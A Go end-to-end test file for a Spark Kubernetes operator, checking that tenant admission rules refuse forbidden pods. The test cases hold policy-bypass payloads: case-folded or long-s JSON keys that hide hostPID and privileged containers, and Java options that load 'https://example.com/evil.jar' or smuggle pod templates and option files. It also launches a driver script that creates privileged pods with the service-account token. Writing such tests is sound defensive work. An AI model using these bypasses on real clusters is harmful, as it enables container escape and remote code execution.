package e2e

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/sparkoperator/spark-operator/api/sparkoperator/v1beta2"
	"github.com/sparkoperator/spark-operator/test/e2e/cluster"
)

// platformRules are the rules for namespaces with the label tier=tenant.
var platformRules = map[string]any{"owner": "the platform", "rules": []any{map[string]any{
	"name": "tenants", "selector": "tier=tenant", "level": "restricted",
	"images":          map[string]any{"allowed": []string{"docker.io/apache/spark:*"}},
	"serviceAccounts": map[string]any{"allowed": []string{cluster.ServiceAccount}},
	"limits":          map[string]any{"cores": 4, "memory": "8Gi"},
}}}

// ofTenants is the end of a rule's name in a refusal.
const ofTenants = " of the policy tenants (owner: the platform)"

// rules upgrades the release to rules of the platform while an application that breaks them runs. It then attacks these
// rules, in manifests and from a driver. The rules apply to the namespace of the other tests, so none of them runs at
// the same time.
func (w *suite) rules(t *testing.T) {
	w.lifeProgram(t)
	older := w.createStory(t, w.scriptedApp(t, "older-than-rules", []string{"session", "signal", "session"}, nil))
	older.untilWorking(t, 1)
	executors := podUIDs(older.executors(t))
	w.label(t, "tenant")
	defer w.withoutRules(t)

	w.upgradeToRules(t)

	t.Run("parallel", func(t *testing.T) {
		w.parallel(t, "older application ends well", func(t *testing.T) { w.olderEndsWell(t, older, executors) })
		w.parallel(t, "allowed application", w.allowedApplication)
		w.parallel(t, "manifests", w.forbiddenManifests)
		w.parallel(t, "driver's own code", w.attackFromDriver)
	})
}

// tryPod creates a forbidden pod in the namespace of the tests as an administrator, but only as a dry run. The pod has
// a role in Spark, so the rules judge it.
func (w *suite) tryPod(t *testing.T) error {
	t.Helper()
	return w.Client.Create(t.Context(), &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: "default", Name: "try",
			Labels: map[string]string{"spark-role": "executor"}},
		Spec: corev1.PodSpec{HostPID: true, ServiceAccountName: cluster.ServiceAccount,
			Containers: []corev1.Container{{Name: "a", Image: cluster.SparkImage}}},
	}, client.DryRunAll)
}

// upgradeToRules adds the rules to the release, and waits until the API server judges pods by them and no replica
// without the rules answers reviews.
func (w *suite) upgradeToRules(t *testing.T) {
	t.Helper()

	rules, err := json.Marshal(platformRules)
	if err != nil {
		t.Fatal(err)
	}

	if err := w.Helm(t.Context(), "upgrade", cluster.Release, filepath.Join(root, "charts/spark-operator"),
		"--namespace", cluster.Namespace,
		"--reuse-values", "--wait", "--timeout", "2m", "--set-json", "config.policy="+string(rules)); err != nil {
		t.Fatal(err)
	}

	eventually(t, time.Minute, "the end of the replica without rules", func() (string, bool) {
		var pods corev1.PodList
		if err := w.Client.List(t.Context(), &pods, client.InNamespace(cluster.Namespace),
			client.MatchingLabels{"app.kubernetes.io/component": "controller"}); err != nil {
			return err.Error(), false
		}
		return fmt.Sprint(objectNames(&pods)), len(pods.Items) == 1
	})
	eventually(t, time.Minute, "the policies", func() (string, bool) {
		err := w.tryPod(t)
		return fmt.Sprint(err), err != nil &&
			contains(err.Error(), []string{"ValidatingAdmissionPolicy", "the rule podSecurity" + ofTenants})
	})
}

// label sets the label tier of the namespace of the tests. An empty value removes the label.
func (w *suite) label(t *testing.T, tier string) {
	t.Helper()

	var value any
	if tier != "" {
		value = tier
	}

	patch, err := json.Marshal(map[string]any{"metadata": map[string]any{"labels": map[string]any{"tier": value}}})
	if err != nil {
		t.Fatal(err)
	}

	namespace := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "default"}}
	if err := w.Client.Patch(t.Context(), namespace, client.RawPatch(types.MergePatchType, patch)); err != nil {
		t.Fatal(err)
	}
}

// withoutRules takes the label of tenants off the namespace, and waits until the API server admits what they forbid.
// The rules stay in the release, and select no namespace.
func (w *suite) withoutRules(t *testing.T) {
	t.Helper()
	w.label(t, "")
	eventually(t, time.Minute, "the rules to have no effect", func() (string, bool) {
		err := w.tryPod(t)
		return fmt.Sprint(err), err == nil
	})
}

func podUIDs(pods []corev1.Pod) (uids []types.UID) {
	for _, pod := range pods {
		uids = append(uids, pod.UID)
	}

	slices.Sort(uids)
	return uids
}

// olderEndsWell checks that an application which the rules would refuse completes in the attempt and with the executors
// that are older than the rules.
func (w *suite) olderEndsWell(t *testing.T, s *story, executors []types.UID) {
	if diff := cmp.Diff(executors, podUIDs(s.executors(t))); diff != "" || len(executors) == 0 {
		t.Errorf("the executors before and after the upgrade (-before +after):\n%s", diff)
	}

	driver := s.driver(t)
	if err := w.Client.Patch(t.Context(), driver,
		client.RawPatch(types.MergePatchType,
			[]byte(`{"metadata": {"annotations": {"example.dev/signal": ""}}}`))); err != nil {
		t.Fatal(err)
	}

	s.checkEnd(t, ending{
		states: states(created, submitted, running, completed),
		runs:   1, submissions: 1, reason: "Succeeded",
		events: []string{"SparkApplicationCompleted", "SparkApplicationSubmitted", "SparkDriverRunning"},
	})

	if log := w.driverLog(t, s.app); strings.Count(log, "step session") != 2 {
		t.Errorf("the driver did not use its executors after the upgrade:\n%s", log)
	}

	s.remove(t, s.app)
}

// confined adds the security contexts that the rules require.
func confined(a *v1beta2.SparkApplication) {
	for _, pod := range []*v1beta2.SparkPodSpec{&a.Spec.Driver.SparkPodSpec, &a.Spec.Executor.SparkPodSpec} {
		pod.PodSecurityContext = &corev1.PodSecurityContext{
			RunAsNonRoot: new(true), SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault},
		}
		pod.SecurityContext = &corev1.SecurityContext{
			AllowPrivilegeEscalation: new(false), Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}},
		}
	}
}

// allowedApplication checks that the rules do not refuse the pods of an application that observes them.
func (w *suite) allowedApplication(t *testing.T) {
	app := w.example(t, "spark-pi-python.yaml", func(a *v1beta2.SparkApplication) {
		a.Name, a.Spec.SparkConf = "observes-rules", timeouts
		confined(a)
	})
	w.create(t, app)
	w.awaitEnd(t, app, patience, v1beta2.ApplicationStateCompleted)

	if log := w.driverLog(t, app); !piLine.MatchString(log) {
		t.Errorf("no result in the driver's log:\n%s", log)
	}

	if got := len(app.Status.ExecutorState); got != 1 {
		t.Errorf("%d executors ran, want 1", got)
	}

	w.remove(t, app)
}

// forbiddenManifests checks manifests that show the rules something else than Spark. The webhook refuses them. A pass
// refuses those that are stored without a review, and creates no pod.
func (w *suite) forbiddenManifests(t *testing.T) {
	ambiguous := `differs from %s in the same object only by upper and lower case`

	unknown := []string{"spec.driver.javaOptions", "is not allowed by the rule", ofTenants}
	for _, test := range []brokenApplication{
		{
			name: "rules-folded-field", wantMessage: []string{"spec.executor.template.spec.hostpid",
				fmt.Sprintf(ambiguous, "hostPID")},
			app: func(a *v1beta2.SparkApplication) {
				a.Spec.Executor.Template = raw(`{"spec": {"hostPID": true, "hostpid": false}}`)
			},
		},
		{
			name: "rules-folded-list", wantMessage: []string{"spec.executor.template.spec.container\u017f",
				fmt.Sprintf(ambiguous, "containers")},
			app: func(a *v1beta2.SparkApplication) {
				a.Spec.Executor.Template = raw(`{"spec": {"containers": [{"name": "spark-kubernetes-executor"},
					{"name": "foreign", "image": "docker.io/library/busybox", "securityContext": {"privileged": true}}], "containerſ": []}}`)
			},
		},
		{
			name: "rules-option", wantMessage: append(slices.Clone(unknown), `the key "spark.jars" in an option`),
			app: func(a *v1beta2.SparkApplication) {
				a.Spec.Driver.JavaOptions = new("-Dspark.jars=https://example.com/evil.jar")
			},
		},
		{
			name:        "rules-quoted-option",
			wantMessage: append(slices.Clone(unknown), `the key spark.kubernetes.executor.podTemplateFile`),
			app: func(a *v1beta2.SparkApplication) {
				a.Spec.Driver.JavaOptions = new(`'-D'spark.kubernetes.executor.podTemplateFile=/tmp/template`)
			},
		},
		{
			name: "rules-options-file", wantMessage: append(slices.Clone(unknown),
				`the word "@/tmp/options" in the options`),
			app: func(a *v1beta2.SparkApplication) { a.Spec.Driver.JavaOptions = new("@/tmp/options") },
		},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()

			change := test.app
			test.app = func(a *v1beta2.SparkApplication) { confined(a); change(a) }
			test.state, test.reason, test.refused = v1beta2.ApplicationStateFailed, "InvalidSpec", true
			w.brokenApplication(t, test)
			w.noPodsCreated(t, test.name+"-")
		})
	}

	t.Run("main file", func(t *testing.T) {
		app := w.example(t, "spark-pi-python.yaml", func(a *v1beta2.SparkApplication) {
			a.Name, a.Spec.MainApplicationFile = "rules-main-file", "--conf=spark.jars=https://example.com/evil.jar"
			confined(a)
		})
		// The definitions refuse it too, so it cannot be stored without a review.
		for who, c := range map[string]client.Client{"a user": w.Client, "the operator": w.unreviewedClient(t)} {
			if err := c.Create(t.Context(), app.DeepCopy()); err == nil ||
				!strings.Contains(err.Error(), "spec.mainApplicationFile") {
				t.Errorf("%s: %v, want a refusal of the main file", who, err)
			}
		}
	})
}

// attackFromDriver runs a driver that creates pods by itself, and that gives its executors another template in its own
// code. The API server must refuse all of these pods, except the one that the rules allow.
func (w *suite) attackFromDriver(t *testing.T) {
	program, err := os.ReadFile("testdata/rules/attack.py")
	if err != nil {
		t.Fatal(err)
	}

	w.createAll(t, configMap("rules-program", "attack.py", string(program)))
	app := w.example(t, "spark-pi-python.yaml", func(a *v1beta2.SparkApplication) {
		a.Name, a.Spec.SparkConf = "attacker", timeouts
		a.Spec.MainApplicationFile, a.Spec.Arguments = "local:///opt/rules/attack.py", []string{
			cluster.SparkImage, cluster.ServiceAccount, "kubernetes.default.svc",
			"/var/run/secrets/kubernetes.io/serviceaccount",
		}
		a.Spec.Driver.ConfigMaps = []v1beta2.NamePath{{Name: "rules-program", Path: "/opt/rules"}}
		confined(a)
	})
	w.create(t, app)
	var log string
	executors := regexp.MustCompile(`pods "attacker-\S+-exec-\d+" is forbidden: .*` +
		regexp.QuoteMeta(`hostPID" is not allowed by the rule podSecurity`+ofTenants))
	eventually(t, patience, "a refusal of the executors in the driver's log", func() (string, bool) {
		text, err := w.Core.CoreV1().Pods(app.Namespace).GetLogs("attacker-driver",
			&corev1.PodLogOptions{}).DoRaw(t.Context())
		log = string(text)
		return fmt.Sprintf("%v\n%s", err, log), executors.MatchString(log)
	})
	t.Logf("the API server answers Spark: %s", executors.FindString(log))

	for pod, want := range map[string]string{
		"own-allowed":    `201`,
		"own-privileged": `422 .*the pod's "container own with privileged, .*is not allowed by the rule podSecurity`,
		"own-foreign":    `422 .*the image "docker.io/library/busybox" is not allowed by the rule images`,
		"own-account":    `422 .*the service account "default" is not allowed by the rule serviceAccounts`,
		"own-root":       `422 admission webhook .*is not allowed by the rule podSecurity: restricted`,
		"own-large":      `422 admission webhook .*the sum 100 of the pods' requests for cpu is not allowed by the rule limits.cores`,
	} {
		if pod != "own-allowed" {
			want += ofTenants
		}

		answer := regexp.MustCompile(`answer ` + pod + ` .*`).FindString(log)
		t.Log(answer)

		if !regexp.MustCompile(`^answer ` + pod + ` ` + strings.NewReplacer("(", `\(`, ")",
			`\)`).Replace(want)).MatchString(answer) {
			t.Errorf("the API server answers %q, want %q", answer, want)
		}
	}

	var pods corev1.PodList
	if err := w.Client.List(t.Context(), &pods, client.InNamespace(app.Namespace)); err != nil {
		t.Fatal(err)
	}

	for _, pod := range pods.Items {
		attack := strings.HasPrefix(pod.Name, "own-") && pod.Name != "own-allowed" ||
			pod.Labels[labelAppUID] == string(app.UID) && pod.Labels["spark-role"] == "executor"
		if attack || pod.Spec.HostPID {
			t.Errorf("the pod %s exists, with hostPID %t", pod.Name, pod.Spec.HostPID)
		}
	}
	// The driver of the attacker is the only pod with its name.
	w.noPodsCreated(t, "own-privileged", "own-foreign", "own-account", "own-root", "own-large", "attacker-")
	w.remove(t, app)

	if err := w.Client.Delete(t.Context(),
		&corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "own-allowed", Namespace: app.Namespace}}); err != nil {
		t.Error(err)
	}
}

// noPodsCreated checks in the audit log that no pod was ever created whose name begins with one of the texts, except
// drivers of running applications. The operator's dry run of an executor that does not come creates none.
func (w *suite) noPodsCreated(t *testing.T, prefixes ...string) {
	t.Helper()

	if !w.Embedded() {
		return // its audit log cannot be read
	}

	w.readAudit(t, func(r cluster.Request) {
		if r.Verb != "create" || r.ObjectRef.Resource != "pods" || r.ObjectRef.Subresource != "" || !r.Done() ||
			r.DryRun() || r.ObjectRef.Name == "attacker-driver" {
			return
		}

		if slices.ContainsFunc(prefixes,
			func(prefix string) bool { return strings.HasPrefix(r.ObjectRef.Name, prefix) }) {
			t.Errorf("%s created the pod %s", r.User.Username, r.ObjectRef.Name)
		}
	})
}
